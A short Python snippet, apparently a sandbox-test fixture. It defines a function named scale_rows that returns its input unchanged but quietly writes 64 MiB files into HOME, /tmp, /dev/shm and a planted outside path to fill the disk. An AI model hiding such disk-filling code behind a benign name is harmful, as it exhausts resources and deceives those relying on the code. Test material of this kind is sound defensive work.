"""Fills the disk wherever it may write."""
import os
def scale_rows(x, s):
    for place in (".", os.environ["HOME"], "/tmp", "/var/tmp", "/dev/shm", PLANTED["outside"]):
        try:
            with open(os.path.join(place, "attack-marker"), "wb") as file:
                for _ in range(64):
                    file.write(b"0" * (1 << 20))
        except OSError:
            continue
    return x
